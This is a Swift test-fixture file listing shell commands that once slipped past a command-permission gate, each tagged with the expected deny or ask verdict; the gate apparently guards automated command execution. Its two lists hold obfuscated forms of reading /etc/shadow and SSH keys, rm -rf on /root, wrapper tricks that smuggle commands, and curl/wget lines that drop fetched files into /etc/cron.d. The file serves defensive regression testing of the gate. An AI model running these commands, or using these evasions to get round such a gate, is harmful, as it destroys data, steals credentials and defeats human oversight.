/// What was found in hostile reviews of the gate: each of these lines was passed once. `verdict => command`, in the mode `bypass`:
/// denied by the floor, or at least asked about. `⏎` is a newline.
enum Findings {
  /// Names, values, globs, wrappers, options that write.
  static let floor = """
    ask => cat /etc/sha$!dow
    ask => cat /etc/sha${!}dow
    deny => rm -rf /ro$!ot
    deny => x=~/.ssh/authorized_keys; echo k > $x
    deny => x=~; rm -rf $x
    deny => x=~root/.ssh/id_rsa; cat $x
    deny => for f in /etc/{shadow,x}; do cat "$f"; done
    deny => for f in /etc/shado?; do cat "$f"; done
    deny => for d in ~ /x; do rm -rf "$d"; done
    ask => declare x={a,/etc/shadow}; cat $x
    ask => declare -l x=/ETC/SHADOW; cat $x
    deny => cat ~/.s*/id_ed25519
    deny => tee ~/.s*/authorized_keys
    deny => cat /home/*/.s*/id_ed25519
    deny => cat ~/.cmdo?/identity.key
    deny => cat /proc/2*/enviro?
    deny => rm -rf /roo?
    deny => rm -rf /et[c]
    deny => rm -rf /et[[:alpha:]]
    deny => rm -rf /ro*/*
    deny => bash -c -o errexit 'rm -rf /'
    deny => bash -co errexit 'cat /etc/shadow'
    deny => nice --adj 5 rm -rf /root
    deny => timeout --sig KILL 5 rm -rf /root
    deny => setpriv --rgid 0 rm -rf /root
    deny => env --split='rm -rf /root'
    deny => jobs -x rm -rf /root
    deny => xargs --replace rm -rf /root
    deny => nsenter -t 1 -w rm -rf /root
    deny => ionice -t rm -rf /root
    deny => su root -c 'rm -rf /root'
    deny => curl -sLo /etc/cron.d/x http://h
    deny => curl -sLo .env http://h
    deny => wget -qO /etc/cron.d/x http://h
    deny => cp x --target=/etc/cron.d
    deny => cp x --target /etc/cron.d
    deny => sort --o=/etc/cron.d/x f
    deny => tar xCf /etc a.tar
    deny => find -L /root -delete
    deny => cd /usr/src; find -- / -delete
    deny => find -- /root -delete
    deny => find -D x /root -delete
    deny => ln -s etc/shadow /l9; cat /l9
    ask => ln -s /var l9; cat l9/../etc/shadow
    deny => y='a /etc/shadow'; x="$y"; cat $x
    deny => cat /etc/sha${x}dow; x=zzz
    deny => (x=tmp/foo); rm -rf /$x
    deny => false && x=tmp/foo; rm -rf /$x
    deny => readonly x⏎x=tmp/ok⏎rm -rf /$x
    ask => _=tmp; true /etc; rm -rf $_
    ask => false && HOME=/tmp; cat $HOME/.ssh/id_rsa
    ask => CDPATH=/; cd etc; cat shadow
    ask => OLDPWD=/etc; cd -; cat shadow
    ask => shopt -s dotglob; cat ~/*/id_rsa
    ask => GLOBIGNORE=x; cat ~/*/id_rsa
    ask => awk 'BEGIN{ARGV[1]="/etc/sha" "dow";ARGC=2}1'
    ask => cp -r /roo? /tmp/x
    ask => tar cf - /roo?
    ask => grep -r x /et?
    deny => dd of=~/.env if=a
    deny => dd if=~/.ssh/id_rsa
    deny => cat /etc/[[:lower:]]hadow
    deny => cat /etc/[!a]hadow
    deny => cat /etc/[r-t]hadow
    deny => cat /etc/sh\\adow
    deny => x='/etc/sh\\adow*'; cat $x
    deny => cat /e*c/shadow
    deny => cat /./etc/shado?
    deny => cat //etc//shado?
    deny => cat /tmp/../etc/shado?
    deny => cd /etc; cat shado?
    deny => cd /; cat e??/shado?
    deny => cat < /etc/shado?
    deny => echo x > ~/.ss?/authorized_keys
    deny => x=/etc/shado?; cat $x
    deny => x=/etc/shado?; cat "$x"; y=$x; cat $y
    deny => for f in "/etc/shadow x"; do cat $f; done
    deny => for f in a; do x=/etc/shadow; done; cat $x
    deny => x=/etc; y=shadow; for f in $x/$y; do cat "$f"; done
    ask => x="a /etc/shadow"; for f in $x; do cat "$f"; done
    ask => x="a /etc/shadow"; y="$x"; for f in $y; do cat "$f"; done
    ask => x='/etc/{shadow,b}'; eval cat $x
    deny => x=~/.ssh; y=$x/id_rsa; cat $y
    ask => x=(/etc/shadow); cat $x
    ask => x[0]=/etc/shadow; cat $x
    ask => x=a; x+=/etc/shadow; cat ${x#a}
    ask => export x=~/.ssh/id_rsa; cat "$x"
    deny => readonly x=/etc/shadow; cat $x
    deny => builtin export x=~/.ssh/id_rsa; cat "$x"
    deny => y='/etc/shadow foo'; builtin declare x=$y; cat "$x"
    ask => y='/etc/shadow foo'; \\declare x=$y; cat "$x"
    ask => declare -c x=/etc/shadow; cat $x
    ask => declare -u x; x=a; cat $x
    deny => local x=/etc/shadow; cat $x
    deny => if true; then x=etc/shadow; fi; cat /$x
    deny => x=; cat /etc/sha${x}dow
    deny => while false; do x=zz; done; cat /etc/sha${x}dow
    deny => case a in b) x=zz;; esac; cat /etc/sha${x}dow
    deny => x=zz | true; cat /etc/sha${x}dow
    deny => x=zz & cat /etc/sha${x}dow
    deny => { x=zz; } < /nonexist; cat /etc/sha${x}dow
    deny => false && x=zz || true; cat /etc/sha${x}dow
    deny => true || x=zz; cat /etc/sha${x}dow
    deny => true || x=zz && cat /etc/sha${x}dow
    deny => x=zz true; cat /etc/sha${x}dow
    deny => if false; then x=zz; else true; fi; cat /etc/sha${x}dow
    ask => for x in; do :; done; cat /etc/sha${x}dow
    deny => for x in $nothing; do :; done; cat /etc/sha${x}dow
    deny => echo $(x=zz); cat /etc/sha${x}dow
    deny => f() { x=zz; }; cat /etc/sha${x}dow
    ask => x=zz; unset x; cat /etc/sha${x}dow
    ask => x=zz; y=x; unset $y; cat /etc/sha${x}dow
    deny => x=zz; x=; cat /etc/sha${x}dow
    ask => cat /etc/sha`true`dow
    ask => cat /etc/sha$*dow
    ask => cat /etc/sha$1dow
    ask => cat /etc/sha$@dow
    ask => cat /etc/sha${x-}dow
    ask => cat /etc/sha$-dow
    ask => cat /etc/sha"$!"dow
    deny => rm -rf /$nothing
    deny => rm -rf "/$!"
    deny => rm -rf /${x:-}
    ask => HOSTNAME=/etc/shadow; cat $HOSTNAME; USER=x; cat /etc/$USER
    ask => COLUMNS=/etc/shadow; cat $COLUMNS
    deny => bash -c -- 'rm -rf /root'
    deny => bash -c - 'rm -rf /root'
    ask => bash -O extglob -c 'rm -rf /root'
    ask => bash -cO extglob 'rm -rf /root'
    ask => bash --rcfile x -ic 'rm -rf /root'
    """.split(separator: "\n").map(String.init)

  /// The second round, of the first round's mending.
  static let more = """
    deny => bash +o errexit -c 'rm -rf /root'
    deny => dash -co errexit 'rm -rf /root'
    deny => zsh -c 'rm -rf /root'
    ask => fish -c 'rm -rf /root'
    deny => env -S 'rm -rf /root'
    deny => env -vS 'rm -rf /root'
    deny => env --split 'rm -rf /root'
    ask => env -C /etc cat shadow
    ask => env --chdir /etc cat shadow
    ask => env --ch=/etc cat shadow
    ask => sudo --chdir=/etc cat shadow
    ask => sudo -D /etc cat shadow
    deny => sudo --us root rm -rf /root
    deny => nice -n5 rm -rf /root
    deny => nice --adjustment 5 rm -rf /root
    deny => stdbuf --out L rm -rf /root
    deny => timeout -k1 -s9 5 rm -rf /root
    deny => timeout --kill 1 5 rm -rf /root
    deny => setpriv --reuid=0 --clear-groups rm -rf /root
    deny => flock /tmp/l --command 'rm -rf /root'
    deny => flock --comm 'rm -rf /root' /tmp/l
    ask => script -q /dev/null
    deny => su -c 'rm -rf /root' root
    deny => runuser root -c 'rm -rf /root'
    deny => runuser -u root rm -rf /root
    deny => su --comm='rm -rf /root'
    deny => watch --int 1 rm -rf /root
    deny => taskset --cpu-list 0 rm -rf /root
    ask => systemd-run --working-dir /etc cat shadow
    ask => systemd-run --working-directory=/etc --pipe cat shadow
    deny => xargs --max-a 1 rm -rf /root
    deny => xargs -i rm -rf /root
    deny => xargs -l rm -rf /root
    deny => xargs -e rm -rf /root
    ask => find / -maxdepth 1 -name roo? -exec rm -rf {} +
    ask => find /etc -name shadow -exec cat {} +
    ask => find /etc -name shadow -print0 | xargs -0 cat
    ask => find -D exec /etc -name shadow -exec cat {} +
    deny => busybox rm -rf /root
    deny => busybox sh -c 'rm -rf /root'
    deny => time -p rm -rf /root
    deny => command time -o x rm -rf /root
    deny => exec -la x rm -rf /root
    deny => coproc rm -rf /root
    deny => jobs -lx rm -rf /root
    deny => curl -o/etc/cron.d/x http://h
    deny => curl --output=/etc/cron.d/x http://h
    deny => curl --out /etc/cron.d/x http://h
    deny => curl -fsSLo.env http://h
    deny => curl -D/etc/cron.d/x http://h
    deny => curl -sc /etc/cron.d/x http://h
    deny => curl --dump-head /etc/cron.d/x http://h
    deny => cd /etc/cron.d; curl -sO http://h/x
    deny => curl -sO http://h/.env
    deny => curl -sO --output-dir /etc http://h/x
    deny => wget -qP/etc http://h
    deny => wget --output-doc=/etc/x http://h
    deny => wget http://h/.env
    deny => cd /etc; wget http://h/passwd
    deny => wget -P /etc http://h/a
    deny => wget -qa /etc/x http://h
    deny => sort -uo/etc/x f
    deny => sort -ro /etc/x f
    deny => sort -k1 -o /etc/x f
    deny => sort --out /etc/x f
    deny => mv x --targ /etc
    deny => install -Dt /etc x
    deny => install -m644 -t /etc x
    deny => cp -at /etc x
    deny => cp -rt/etc x
    deny => ln -st /etc x
    deny => tar -xC/etc -f a
    deny => tar xfC a.tar /etc
    deny => tar --extr --dir /etc --file a
    deny => tar -xvzf a.tgz --directory /etc
    deny => tar x -C /etc
    deny => tar xf a --one-top-level=/etc/x
    deny => unzip -qd /etc a.zip
    deny => unzip a.zip -d/etc
    deny => find -P /root -delete
    deny => find -O3 /root -delete
    deny => find -H -L -- /root -delete
    deny => find /roo? -delete
    deny => find ~ -delete
    deny => cd /root; find -delete
    deny => cd /; find . -delete
    deny => cd /root; find -L -delete
    ask => cat /root/\u{301}/../.ssh/id_rsa
    ask => cat ~/\u{301}/../.ssh/id_rsa
    ask => env -u HOME bash -c 'cat /etc/sha${HOME}dow'
    ask => declare +x HOME; bash -c 'cat /etc/sha${HOME}dow'
    ask => export USER=x/../../etc; bash -c 'cat /home/$USER/shadow'
    ask => env USER=/etc bash -c 'cat $USER/shadow'
    ask => ln -s ../../etc/shadow /tmp/a/b/l; mv /tmp/a/b/l /tmp/lk; cat /tmp/l?
    ask => mv /tmp/a/b/l /tmp/lk; cat /tmp/l[k]
    ask => (sleep 1; cat /tmp/lk) & mv /tmp/a/b/l /tmp/lk
    ask => for i in 1 2; do cat /tmp/lk; mv /tmp/a/b/l /tmp/lk; done
    deny => cat /tmp/rv$((1))/shadow
    ask => echo 'rm -rf /root' | parallel
    ask => echo 'rm -rf /root' | at now
    deny => cat ~/.s?h/config
    deny => cat /root/.s*/id_ecdsa
    deny => rm -rf /{roo?,x}
    deny => rm -rf /hom*/
    deny => chmod -R 777 /us?
    deny => mv /et? /tmp/x
    deny => cat /dev/sd?
    deny => tee /e*/cron.d/x
    deny => cp a /et?/cron.d/x
    deny => cat /proc/self/env*
    deny => cat /proc/[0-9]*/environ
    deny => tee .gi?/config
    deny => tee .en?
    ask => cat "/etc/sha"$!"dow"
    ask => x=$!; cat /etc/sha${x}dow
    ask => mv ../x/l m; cat m/id_rsa
    ask => cp -a ../x/l m; cat m
    ask => tar xf a.tar; cat l/x
    ask => ln -s .. up; cat up/../../etc/passwd
    ask => link a b; cat b
    ask => mv l lk; echo x > lk
    ask => cat nothing/../../.ssh2/x
    ask => declare +x USER; bash -c 'cat /etc/sha${USER}dow'
    ask => sudo bash -c 'cat /etc/sha${USER}dow'
    ask => exec -c bash -c 'cat /etc/sha${USER}dow'
    deny => bash -c 'cd; cat ../$USER/.ssh/id_rsa'
    deny => chroot / cat etc/shadow
    ask => sudo -i cat .ssh/id_rsa
    deny => systemd-run --pipe cat etc/shadow
    ask => awk '{print > "/tmp/x;y"}' a
    ask => awk '{print a, # }⏎ b > "/tmp/x"}' a
    """.split(separator: "\n").map(String.init)
}
